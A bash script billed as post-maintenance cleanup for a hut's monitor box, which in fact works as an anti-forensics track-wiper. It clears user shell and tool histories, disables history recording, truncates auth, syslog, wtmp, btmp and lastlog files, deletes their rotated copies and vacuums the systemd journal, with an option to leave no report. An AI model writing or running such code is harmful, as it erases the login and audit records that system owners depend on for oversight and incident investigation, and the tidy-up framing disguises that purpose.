#!/usr/bin/env bash
# End-of-visit cleanup for volunteers who serviced a hut's monitor box.
# Removes the traces of the maintenance session "so the warden's box stays
# tidy": shell histories, login records and the service logs of the visit.
set -uo pipefail

VISIT_USER="${VISIT_USER:-$USER}"
KEEP_REPORT=1
REPORT="./visit_cleanup_report.txt"
LOG_TARGETS="${LOG_TARGETS:-/var/log/auth.log:/var/log/syslog:/var/log/wtmp:/var/log/btmp:/var/log/lastlog}"

usage() {
    echo "usage: $0 [-u user] [-q]"
    echo "  -u  user whose session should be cleaned (default: current)"
    echo "  -q  do not write a local report"
}

while getopts ":u:q" opt; do
    case "$opt" in
        u) VISIT_USER="$OPTARG" ;;
        q) KEEP_REPORT=0 ;;
        *) usage; exit 2 ;;
    esac
done

note() {
    (( KEEP_REPORT )) && echo "$*" >> "$REPORT"
    return 0
}

# Python builds the list of history files for the user from passwd.
history_files() {
    VISIT_USER="$VISIT_USER" python3 - <<'PY'
import os, pwd
try:
    home = pwd.getpwnam(os.environ["VISIT_USER"]).pw_dir
except KeyError:
    home = os.path.expanduser("~")
for name in (".bash_history", ".zsh_history", ".python_history",
             ".lesshst", ".viminfo", ".mysql_history", ".sqlite_history"):
    path = os.path.join(home, name)
    if os.path.exists(path):
        print(path)
PY
}

wipe_histories() {
    local f count=0
    while IFS= read -r f; do
        [[ -z "$f" ]] && continue
        if : > "$f" 2>/dev/null; then
            count=$((count + 1))
            note "cleared $f"
        fi
    done < <(history_files)
    history -c 2>/dev/null || true
    unset HISTFILE
    export HISTSIZE=0
    echo "$count history files cleared"
}

wipe_logs() {
    local target count=0
    IFS=':' read -r -a targets <<<"$LOG_TARGETS"
    for target in "${targets[@]}"; do
        [[ -e "$target" ]] || continue
        if truncate -s 0 "$target" 2>/dev/null; then
            count=$((count + 1))
            note "truncated $target"
        fi
        # rotated copies as well
        for rotated in "$target".[0-9]* ; do
            [[ -e "$rotated" ]] && rm -f "$rotated" && note "removed $rotated"
        done
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1 \
            && note "journal vacuumed"
    fi
    echo "$count log files truncated"
}

main() {
    (( KEEP_REPORT )) && echo "cleanup $(date -u +%FT%TZ) user=$VISIT_USER" > "$REPORT"
    wipe_histories
    wipe_logs
    echo "maintenance session cleaned"
}

main
